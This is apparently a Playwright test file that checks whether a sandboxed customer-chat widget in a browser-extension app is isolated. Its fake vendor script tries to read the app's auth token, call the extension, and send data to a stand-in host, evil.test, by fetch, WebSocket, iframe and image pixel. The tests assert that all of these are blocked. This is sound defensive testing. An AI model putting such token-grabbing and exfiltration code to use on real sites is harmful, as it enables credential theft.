import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test, type BrowserContext, type Page, type Worker } from '@playwright/test';
import { readHeadersFile } from '../../src/build/security';
import { closeProfile, launchWithExtension, type ExtensionProfile } from './realExtension';

/*
 * The chat widget on the PRODUCTION build (dist-prod-e2e, test/e2e/buildProductionE2e.mjs): its
 * frame is served from https://chat.reachly.test and the vendor from *.chat-vendor.test, both
 * answered here from the build and a fake vendor script that tries to reach what it must not.
 */

const ORIGIN = `http://127.0.0.1:${process.env.REAL_E2E_PORT ?? 4406}`;
const DIST = 'dist-prod-e2e';
const FRAME_ORIGIN = 'https://chat.reachly.test';
const OUR_ID = 'bdldphklmilhofjbkfaieodfkhnnalbi';
const USER = {
  id: 1,
  email: 'a@b.c',
  details: { firstName: 'Real', lastName: 'Extension' },
  planId: 3,
  linkedinAccount: { id: 'x', firstName: 'Real', lastName: 'Extension', email: 'a@b.c' },
};

/** The fake vendor: everything a hostile widget would try, reported in its frame's `vendorReport`. */
const VENDOR_SCRIPT = `(() => {
  const report = { violations: [], settings: window.chatWidgetSettings };
  window.vendorReport = report;
  document.addEventListener('securitypolicyviolation', (e) => report.violations.push(e.effectiveDirective + ' ' + e.blockedURI));
  try { report.ownToken = localStorage.getItem('reachly.token'); } catch (e) { report.ownToken = e.name; }
  try { report.appToken = window.parent.localStorage.getItem('reachly.token'); } catch (e) { report.appToken = e.name; }
  report.runtime = typeof (globalThis.chrome && chrome.runtime && chrome.runtime.sendMessage);
  try { chrome.runtime.sendMessage('${OUR_ID}', { type: 'rpc', name: 'eval', args: ['1'] }); } catch (e) { report.sendError = e.name; }
  // No host answers these: a listed one fails on the network, an unlisted one is refused by the CSP first.
  new WebSocket('wss://relay.chat-vendor.test/socket');
  try { new WebSocket('wss://evil.test/socket'); } catch (e) { report.evilSocket = e.name; }
  fetch('https://api.chat-vendor.test/ping').then((r) => r.json()).then((j) => { report.api = j.pong; });
  fetch('https://evil.test/collect').catch(() => { report.evilFetch = 'refused'; });
  for (const src of ['https://widget.chat-vendor.test/panel.html', 'https://evil.test/frame.html']) {
    const frame = document.createElement('iframe');
    frame.src = src;
    document.body.append(frame);
  }
  new Image().src = 'https://evil.test/pixel.png';
  try { window.top.location.href = 'https://evil.test/'; } catch (e) { report.topNavigation = e.name; }
})();`;

let profile: ExtensionProfile | undefined;
let context: BrowserContext;
let sw: Worker;
let evilRequests: string[];

const fileType = (path: string) => (path.endsWith('.html') ? 'text/html' : 'text/javascript');

test.beforeEach(async () => {
  profile = await launchWithExtension('reachly-chat-');
  ({ context, sw } = profile);
  evilRequests = [];
  await context.route(`${ORIGIN}/api/**`, (route) => {
    if (new URL(route.request().url()).pathname === '/api/user/me')
      return route.fulfill({ json: { success: true, result: USER } });
    return route.fulfill({ json: { success: true, result: { planSettings: null } } });
  });
  // The chat origin serves the same build, with its _headers block for /chat-frame/.
  await context.route(`${FRAME_ORIGIN}/**`, (route) => {
    const { pathname } = new URL(route.request().url());
    const file = pathname.endsWith('/') ? `${pathname}index.html` : pathname;
    return route.fulfill({
      headers: readHeadersFile(join(DIST, '_headers'), pathname),
      contentType: fileType(file),
      body: readFileSync(join(DIST, file)),
    });
  });
  await context.route('https://widget.chat-vendor.test/**', (route) =>
    route.request().url().endsWith('/loader.js')
      ? route.fulfill({ contentType: 'text/javascript', body: VENDOR_SCRIPT })
      : route.fulfill({ contentType: 'text/html', body: '<p>Vendor panel</p>' }),
  );
  await context.route('https://api.chat-vendor.test/**', (route) =>
    route.fulfill({ json: { pong: true }, headers: { 'access-control-allow-origin': FRAME_ORIGIN } }),
  );
  await context.route('https://evil.test/**', (route) => {
    evilRequests.push(route.request().url());
    return route.fulfill({ body: 'reached' });
  });
});

test.afterEach(async () => {
  await closeProfile(profile);
  profile = undefined;
});

const startApp = async (): Promise<Page> => {
  const page = context.pages()[0] ?? (await context.newPage());
  await page.goto(`${ORIGIN}/?connectTo=${OUR_ID}`);
  await expect(page.getByRole('navigation', { name: 'Main menu' })).toBeVisible();
  return page;
};

const chatFrame = (page: Page) => page.frames().find((f) => f.url() === `${FRAME_ORIGIN}/chat-frame/`);

test('the widget gets the id and e-mail, but neither the token nor the extension, and reaches only its listed hosts', async () => {
  const page = await startApp();
  expect(await page.evaluate(() => localStorage.getItem('reachly.token'))).toBeTruthy();
  await expect.poll(() => chatFrame(page)?.url()).toBe(`${FRAME_ORIGIN}/chat-frame/`);
  const frame = chatFrame(page)!;
  const report = () =>
    frame.evaluate(() => (window as unknown as { vendorReport?: Record<string, unknown> }).vendorReport);
  await expect.poll(async () => (await report())?.api).toBe(true);
  await expect
    .poll(async () => ((await report())?.violations as string[]).sort())
    .toEqual([
      'connect-src https://evil.test/collect',
      'connect-src wss://evil.test/socket',
      'frame-src https://evil.test',
      'img-src https://evil.test/pixel.png',
    ]);
  expect(await report()).toMatchObject({
    settings: { id: 1, email: 'a@b.c' },
    appToken: 'SecurityError',
    runtime: 'undefined',
    sendError: 'TypeError',
    evilFetch: 'refused',
    topNavigation: 'SecurityError',
  });
  expect(Object.keys((await report())!.settings as object).sort()).toEqual(['email', 'id']);
  // Its own origin's storage holds no token (here Chromium even refuses a framed origin storage).
  expect(['SecurityError', null]).toContain((await report())!.ownToken);
  // The listed frame loaded; nothing reached the unlisted host, and the app stayed where it was.
  await expect
    .poll(() => page.frames().some((f) => f.url() === 'https://widget.chat-vendor.test/panel.html'))
    .toBe(true);
  expect(evilRequests).toEqual([]);
  expect(page.url()).toContain(ORIGIN);
  const calls = await sw.evaluate(
    () => (self as unknown as { calls: { name: string; origin: string }[] }).calls,
  );
  expect(calls.filter((c) => c.name === 'eval' || c.origin !== ORIGIN)).toEqual([]);
});

test('the chat opens and closes from the keyboard, and logout removes it', async () => {
  const page = await startApp();
  const button = page.getByRole('button', { name: 'Chat with us' });
  await expect(button).toHaveAttribute('aria-expanded', 'false');
  await button.focus();
  await page.keyboard.press('Enter');
  await expect(button).toHaveAttribute('aria-expanded', 'true');
  await expect(page.getByTitle('Customer chat')).toBeVisible();
  await expect(page.getByTitle('Customer chat')).toBeFocused();
  // Escape inside the chat frame closes it and gives the focus back to the button.
  await page.keyboard.press('Escape');
  await expect(button).toHaveAttribute('aria-expanded', 'false');
  await expect(button).toBeFocused();
  await page.getByRole('button', { name: 'Logout' }).click();
  await expect(button).toHaveCount(0);
  await expect(page.getByTitle('Customer chat')).toHaveCount(0);
});
